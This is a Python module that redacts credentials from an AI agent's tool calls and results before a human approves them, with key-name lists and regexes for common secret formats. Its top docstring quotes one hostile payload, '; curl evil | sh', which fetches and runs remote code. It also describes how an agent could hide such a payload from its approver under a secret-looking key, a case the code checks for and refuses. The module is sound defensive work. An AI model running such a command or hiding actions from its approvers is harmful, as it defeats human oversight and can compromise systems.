"""Secrets taken out of what an agent's tools say, before a person sees it.

Theory of operation: ``redact`` returns a copy of a JSON value (a tool's
arguments or result, an approval's arguments) in which every secret-looking
value is replaced by a *mark* that says how long it was and, when it is long
enough for a hash not to give it away, a short SHA-256 digest:
``[redacted, 40 chars, sha256 3fa9c1]``. Keys, structure and every other
value stay exactly as sent, so a redacted value still shows what a tool was
called with, and a person sees that something was hidden and whether two
hidden values are the same. A mark is never redacted again, so redacting
twice changes nothing.

A value is secret in three ways, each leaning towards hiding too much (a
person loses a detail, never a credential):

- By its key: a string under an object key whose name speaks of a secret
  (``password``, ``api_key``, ``Authorization``, ``client-key-data``,
  ``pwd``, ...), however deeply nested below it; a number too when the key
  names a password or PIN (``max_tokens: 100`` is shown). A Kubernetes
  name/value pair (``{"name": "DB_PASSWORD", "value": ...}``) and the
  ``data`` and ``stringData`` of a ``kind: Secret`` manifest count as under
  a secret key.
- By what surrounds it in a string: ``KEY=value``, ``--password=value``,
  ``--token value``, ``password: value`` (to the end of the line, or of
  the quoted word it opens, as in ``-H "X-Api-Key: value"``) and
  ``"api_key": "value"``, the values of a YAML ``kind: Secret`` manifest's
  ``data``, MySQL's ``-pPASSWORD``, and a URL's ``user:password@``.
- By its shape, wherever it is: a known credential format (Slack, GitHub,
  GitLab, AWS, Google, Stripe, Hugging Face, OpenAI-style keys, Slack
  webhook URLs, JSON Web Tokens, PEM and PGP private keys, ``Bearer``
  credentials).

The reverse risk is an agent hiding a payload from an approver under a
secret-looking key (``{"session_token": "; curl evil | sh"}``).
``hidden_non_credential`` finds a hidden value that does not look like a
credential (a known shape, or one run of characters with no spaces, quotes
or shell separators), so that an approval that would hide one is refused.
Every pattern runs in linear time.
"""

from __future__ import annotations

import hashlib
import re
from collections.abc import Mapping
from functools import lru_cache
from typing import Any

from shared.core import notices

HASH_MIN_CHARS = 16
"""Shorter values are marked with their length alone: a hash would let anyone guess them."""
MAX_CREDENTIAL_CHARS = 8192

SECRET_KEY_WORDS = (
    "password",
    "passwd",
    "passphrase",
    "passcode",
    "secret",
    "token",
    "apikey",
    "accesskey",
    "accountkey",
    "privatekey",
    "clientkey",
    "masterkey",
    "encryptionkey",
    "sshkey",
    "keydata",
    "kubeconfig",
    "credential",
    "authorization",
    "cookie",
    "sessionid",
    "signingkey",
    "signature",
)
"""A key is secret when, lower-cased with everything but letters and digits
dropped, it contains one of these..."""
SECRET_KEY_PARTS = frozenset({"pass", "pwd", "pin", "otp", "sig"})
"""...or when one of its words is one of these (``db_pass``, ``userPwd``, ``sig``)..."""
SECRET_KEYS = frozenset({"auth"})
"""...or when it is one of these, whole."""
_NUMERIC_SECRET_WORDS = ("password", "passwd", "passphrase", "passcode", "secret")
"""A number is hidden under a key that contains one of these, or has a word of
``SECRET_KEY_PARTS`` (a PIN, a one-time code)."""
_NAME_KEYS = ("name", "Name", "key", "Key")
_VALUE_KEYS = ("value", "Value")
_SECRET_DATA_KEYS = ("data", "stringData")

_PRIVATE_KEY_BLOCK = (
    r"-----BEGIN [A-Z ]*PRIVATE KEY(?: BLOCK)?-----[\s\S]*?"
    r"(?:-----END [A-Z ]*PRIVATE KEY(?: BLOCK)?-----|$)"
)
"""A PEM or PGP private key, to its end line (or the end of the text, when cut)."""
_SECRET_SHAPES = re.compile(
    "|".join(  # noqa: FLY002 - one shape a line, each with its comment
        (
            _PRIVATE_KEY_BLOCK,
            r"\bxox[abcdeoprs]-[A-Za-z0-9-]{8,}",  # Slack tokens
            r"\bxapp-[A-Za-z0-9-]{8,}",  # Slack app-level tokens
            r"\bhooks\.slack\.com/(?:services|workflows|triggers)/[A-Za-z0-9/_-]{8,}",
            r"\bgh[pousr]_[A-Za-z0-9]{20,}",  # GitHub tokens
            r"\bgithub_pat_[A-Za-z0-9_]{20,}",
            r"\bgl[a-z]{1,6}-[A-Za-z0-9_-]{20,}",  # GitLab tokens (glpat-, gldt-, ...)
            r"\b(?:AKIA|ASIA)[0-9A-Z]{16}\b",  # AWS access key IDs
            r"\bAIza[0-9A-Za-z_-]{35}",  # Google API keys
            r"\bya29\.[0-9A-Za-z_-]{20,}",  # Google OAuth access tokens
            r"\b[rs]k_(?:live|test)_[0-9A-Za-z]{10,}",  # Stripe keys
            r"\bwhsec_[0-9A-Za-z]{20,}",  # Stripe webhook secrets
            r"\bhf_[0-9A-Za-z]{30,}",  # Hugging Face tokens
            r"\bsk-[A-Za-z0-9_-]{20,}",  # OpenAI-style secret keys
            r"\beyJ[A-Za-z0-9_-]{5,}\.[A-Za-z0-9_-]{5,}\.[A-Za-z0-9_-]+",  # JSON Web Tokens
        )
    )
)
_AWS_SECRET = re.compile(r"(?<![A-Za-z0-9/+=])[A-Za-z0-9/+]{40}(?![A-Za-z0-9/+=])")
"""An AWS secret access key: 40 characters of base64, with upper and lower case and digits."""
_BEARER = re.compile(r"\b(Bearer|Basic|Token)\s+([A-Za-z0-9._~+/=-]{8,})", re.IGNORECASE)
_URL_PASSWORD = re.compile(r"(\b[a-zA-Z][a-zA-Z0-9+.-]*://[^\s:/@]+:)([^\s@/]+)@")
_ASSIGNMENT = re.compile(r"""(?<![\w.])(["']?)([A-Za-z_][\w.-]*)\1[ \t]*([=:])[ \t]*""")
"""A key and what assigns it: ``KEY=``, ``--key=``, ``?api_key=``, ``password: ``, ``"key": ``."""
_ASSIGNED_VALUE = {
    "=": re.compile(r"""("[^"\n]*"|'[^'\n]*'|(?!\[redacted)[^\s"',;&}\]]+)"""),
    ":": re.compile(r"""("[^"\n]*"|'[^'\n]*'|(?!\[redacted)(?!//)[^\s"',;}\]][^\n,;]*)"""),
}
"""The value after ``=`` (one word, or quoted), or after ``:`` (to the end of the line, or quoted)."""
_QUOTED_REST = {quote: re.compile(f"[^{quote}\n]*") for quote in ("'", '"')}
"""The value after ``:`` when a quote opens just before its key (``-H "X-Api-Key: v"``): to that quote."""
_FLAG = re.compile(r"""(?<!\S)--?([A-Za-z][\w-]*)[ \t]+((?![-"'\[])[^\s"';|&]+)""")
"""``--token value``."""
_COMMAND = re.compile(r"[^;|&\n]+")
"""One simple command of a shell line."""
_MYSQL = re.compile(r"\b(?:mysql(?:dump|admin|import|show|check)?|mariadb(?:-[a-z]+)?)\b")
_SHORT_PASSWORD = re.compile(r"""(?<!\S)-p(?:'([^'\n]*)'|"([^"\n]*)"|(?!\[redacted)([^\s"'<>]+))""")
"""MySQL's ``-pPASSWORD`` (a ``-p`` elsewhere is a port, a path or a flag)."""
_SECRET_KIND = re.compile(r"""(?m)^[ \t]*kind:[ \t]*["']?Secret["']?[ \t]*$""")
_DATA_START = re.compile(r"^([ \t]*)(?:data|stringData):[ \t]*$")
_DATA_ENTRY = re.compile(r"^([ \t]*[^\s:#][^:\n]*:[ \t]*)(.*)$")
_BLOCK_SCALAR = re.compile(r"^[|>][+-]?\d*$")
_MARK = re.compile(r"\[redacted, \d+ chars(?:, sha256 [0-9a-f]{6})?\]")
_CREDENTIAL_RUN = re.compile(r"""[^\s;|&`<>'"\\]+""")


def redact(value: Any) -> Any:
    """A copy of a JSON value with every secret-looking value replaced by its mark.

    Args:
        value: Any JSON value (dicts, lists, strings, numbers, booleans, None).

    Returns:
        The same structure, with the secrets marked.
    """
    return _Redactor().value(value, secret=False)


def redact_text(text: str) -> str:
    """``text`` with every secret-looking piece of it replaced by its mark."""
    return _Redactor().text(text)


def hidden_non_credential(value: Any) -> bool:
    """Whether ``redact`` hides a piece of ``value`` that does not look like a credential."""
    redactor = _Redactor()
    redactor.value(value, secret=False)
    return any(not looks_like_credential(hidden) for hidden in redactor.hidden)


def looks_like_credential(text: str) -> bool:
    """Whether ``text`` could be a credential: a known shape, or one run with no shell syntax."""
    if _SECRET_SHAPES.fullmatch(text):
        return True
    scheme, _, rest = text.partition(" ")
    if rest and scheme.lower() in ("bearer", "basic", "token"):
        text = rest
    return (
        len(text) <= MAX_CREDENTIAL_CHARS
        and _CREDENTIAL_RUN.fullmatch(text) is not None
        and "$(" not in text
        and "${" not in text
    )


def mark(hidden: str) -> str:
    """What a person sees in place of ``hidden``."""
    if len(hidden) < HASH_MIN_CHARS:
        return notices.REDACTED_SHORT.format(length=len(hidden))
    digest = hashlib.sha256(hidden.encode("utf-8", "surrogatepass")).hexdigest()[:6]
    return notices.REDACTED.format(length=len(hidden), digest=digest)


@lru_cache(maxsize=4096)
def is_secret_key(key: str) -> bool:
    """Whether an object key names a secret (its strings are never shown)."""
    folded = re.sub(r"[^a-z0-9]", "", key.lower())
    return (
        any(word in folded for word in SECRET_KEY_WORDS)
        or folded in SECRET_KEYS
        or not SECRET_KEY_PARTS.isdisjoint(key_words(key))
    )


@lru_cache(maxsize=4096)
def _is_numeric_secret_key(key: str) -> bool:
    folded = re.sub(r"[^a-z0-9]", "", key.lower())
    return any(word in folded for word in _NUMERIC_SECRET_WORDS) or not SECRET_KEY_PARTS.isdisjoint(
        key_words(key)
    )


def key_words(key: str) -> set[str]:
    """``db_pass`` -> {db, pass}; ``userPwd`` -> {user, pwd}."""
    return {word.lower() for word in re.findall(r"[A-Z]?[a-z]+|[A-Z]+(?![a-z])|\d+", key)}


class _Redactor:
    """One redaction, keeping every piece it hid (for ``hidden_non_credential``)."""

    def __init__(self) -> None:
        self.hidden: list[str] = []

    def value(self, value: Any, secret: bool, numeric_secret: bool = False) -> Any:
        """``value`` shown; ``secret``: it sits under a secret key (``numeric_secret``: a password's)."""
        if isinstance(value, str):
            if secret and value and not _MARK.fullmatch(value):
                return self._hide(value)
            return value if secret else self.text(value)
        if isinstance(value, Mapping):
            return self._mapping(value, secret, numeric_secret)
        if isinstance(value, list | tuple):
            return [self.value(item, secret, numeric_secret) for item in value]
        if isinstance(value, int | float) and not isinstance(value, bool) and numeric_secret:
            return self._hide(str(value))
        return value

    def _mapping(
        self, value: Mapping[Any, Any], secret: bool, numeric_secret: bool
    ) -> dict[Any, Any]:
        names = [value[key] for key in _NAME_KEYS if isinstance(value.get(key), str)]
        secret_manifest = value.get("kind") == "Secret"
        shown = {}
        for key, item in value.items():
            key = str(key)
            # A name/value pair: the value is under the key its name gives.
            named = names if key in _VALUE_KEYS else []
            shown[key] = self.value(
                item,
                secret
                or is_secret_key(key)
                or any(is_secret_key(name) for name in named)
                or (secret_manifest and key in _SECRET_DATA_KEYS),
                numeric_secret
                or _is_numeric_secret_key(key)
                or any(_is_numeric_secret_key(name) for name in named),
            )
        return shown

    def text(self, text: str) -> str:
        if _SECRET_KIND.search(text):
            text = self._secret_manifest(text)
        text = self._assignments(text)
        text = _COMMAND.sub(self._mysql_command, text)
        text = _FLAG.sub(self._flag, text)
        text = _SECRET_SHAPES.sub(lambda match: self._hide(match.group(0)), text)
        text = _AWS_SECRET.sub(self._aws_secret, text)
        text = _BEARER.sub(lambda match: f"{match.group(1)} {self._hide(match.group(2))}", text)
        return _URL_PASSWORD.sub(
            lambda match: match.group(1) + self._hide(match.group(2)) + "@", text
        )

    def _hide(self, hidden: str) -> str:
        self.hidden.append(hidden)
        return mark(hidden)

    def _assignments(self, text: str) -> str:
        """Values assigned to secret keys, hidden; a key inside a hidden value is not read."""
        pieces: list[str] = []
        done = 0
        for key in _ASSIGNMENT.finditer(text):
            if key.start() < done or not is_secret_key(key.group(2)):
                continue
            value = self._assigned_value(text, key)
            if value is None:
                continue
            quoted = value.group(0)[:1] in ("'", '"')
            start = value.start() + quoted
            end = value.end() - quoted if quoted else value.start() + len(value.group(0).rstrip())
            if start == end or _MARK.fullmatch(text, start, end):
                continue
            pieces += [text[done:start], self._hide(text[start:end])]
            done = end
        return "".join(pieces) + text[done:]

    @staticmethod
    def _assigned_value(text: str, key: re.Match[str]) -> re.Match[str] | None:
        opening = text[key.start() - 1 : key.start()]
        if key.group(3) == ":" and not key.group(1) and opening in _QUOTED_REST:
            return _QUOTED_REST[opening].match(text, key.end())
        return _ASSIGNED_VALUE[key.group(3)].match(text, key.end())

    def _flag(self, match: re.Match[str]) -> str:
        if not is_secret_key(match.group(1)) or _MARK.match(match.group(2)):
            return match.group(0)
        whole = match.group(0)
        return whole[: match.start(2) - match.start(0)] + self._hide(match.group(2))

    def _mysql_command(self, match: re.Match[str]) -> str:
        command = match.group(0)
        if "-p" not in command or not _MYSQL.search(command):
            return command
        return _SHORT_PASSWORD.sub(self._short_password, command)

    def _short_password(self, match: re.Match[str]) -> str:
        group = next(index for index in (1, 2, 3) if match.group(index) is not None)
        whole, start = match.group(0), match.start(group) - match.start(0)
        if not match.group(group) or _MARK.fullmatch(match.group(group)):
            return whole
        return (
            whole[:start]
            + self._hide(match.group(group))
            + whole[start + len(match.group(group)) :]
        )

    def _aws_secret(self, match: re.Match[str]) -> str:
        found = match.group(0)
        mixed = (
            any(c.isupper() for c in found)
            and any(c.islower() for c in found)
            and any(c.isdigit() for c in found)
        )
        return self._hide(found) if mixed else found

    def _secret_manifest(self, text: str) -> str:
        """The values under ``data`` and ``stringData`` hidden, in YAML text."""
        lines = text.split("\n")
        data_indent: int | None = None
        for index, line in enumerate(lines):
            indent = len(line) - len(line.lstrip(" \t"))
            start = _DATA_START.match(line)
            if start is not None:
                data_indent = len(start.group(1))
                continue
            if data_indent is None or not line.strip():
                continue
            if indent <= data_indent:
                data_indent = None
                continue
            entry = _DATA_ENTRY.match(line)
            if entry is not None:
                value = entry.group(2).strip()
                if value and not _BLOCK_SCALAR.match(value) and not _MARK.fullmatch(value):
                    lines[index] = entry.group(1) + self._hide(value)
            elif not _MARK.fullmatch(line.strip()):
                lines[index] = line[:indent] + self._hide(line.strip())
        return "\n".join(lines)
